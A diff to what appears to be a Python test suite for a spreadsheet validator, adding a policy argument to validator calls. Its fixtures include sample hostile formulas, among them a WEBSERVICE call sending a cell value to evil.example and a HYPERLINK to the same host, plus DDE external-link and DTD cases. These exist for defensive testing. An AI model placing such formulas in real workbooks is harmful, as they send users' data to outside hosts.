@@ -66,14 +66,14 @@ def book_with(tmp_path: Path, sheet: str, ref: str, cell: str, src: Path = SAMPL
 
 def findings_of(path: Path, rule: str | None = None):
     """(rule, sheet, row, column) of the findings the sample itself does not have (it has one D003 warning)."""
-    _, found = validate_file(path)
+    _, found = validate_file(path, POLICY)
     got = [(f.rule, f.sheet, f.row, f.column) for f in found if rule is None or f.rule == rule]
     return [f for f in got if f not in _sample_findings()]
 
 
 def _sample_findings() -> list[tuple]:
     if not _SAMPLE_FINDINGS:
-        _, found = validate_file(SAMPLE)
+        _, found = validate_file(SAMPLE, POLICY)
         _SAMPLE_FINDINGS.extend((f.rule, f.sheet, f.row, f.column) for f in found)
     return _SAMPLE_FINDINGS
 
@@ -90,7 +90,7 @@ CDATA = '<c r="B4" t="str"><![CDATA[ ]]><f><![CDATA[HYPERLINK("http://evil.examp
 
 # ---------------------------------------------------------------------------------------------- item 1: F013 bypasses
 def test_the_sample_has_no_error_to_start_with():
-    _, found = validate_file(SAMPLE)
+    _, found = validate_file(SAMPLE, POLICY)
     assert found and not any(f.is_error for f in found)
 
 
@@ -128,7 +128,7 @@ def test_a_changed_summary_formula_is_f013_and_refused(tmp_path):
     path = book_with(tmp_path, "月报汇总", "C6",
                      '<c r="C6"><f>WEBSERVICE("http://evil.example/?d="&amp;\'辍学\'!$E$4)</f></c>')
     assert findings_of(path) == [("F013", "月报汇总", 6, "C6")]
-    _, found = validate_file(path)
+    _, found = validate_file(path, POLICY)
     assert "WEBSERVICE" in next(f.message for f in found if f.rule == "F013")
     [result] = submit_files([path], tmp_path / "out", POLICY)
     assert result.exit_code == 1
@@ -196,7 +196,7 @@ def test_an_external_link_part_and_dde_are_s006(tmp_path):
             '</Relationships>').encode()
     path = rezip(SAMPLE, tmp_path / "book.xlsx", add={"xl/externalLinks/externalLink1.xml": link,
                                                        "xl/externalLinks/_rels/externalLink1.xml.rels": rels})
-    _, found = validate_file(path)
+    _, found = validate_file(path, POLICY)
     assert [(f.rule, "DDE" in f.message) for f in found if f.is_error] == [("S006", True)]
 
 
@@ -227,7 +227,7 @@ def test_a_dtd_in_any_part_is_refused(tmp_path, member):
     def edit(xml: str) -> str:
         return dtd + xml if not xml.startswith("<?xml") else xml.replace("?>", "?>" + dtd, 1)
     path = rezip(SAMPLE, tmp_path / "book.xlsx", {name: edit})
-    _, found = validate_file(path)
+    _, found = validate_file(path, POLICY)
     assert [f.rule for f in found] == ["S005"] and "DTD" in found[0].message
 
 
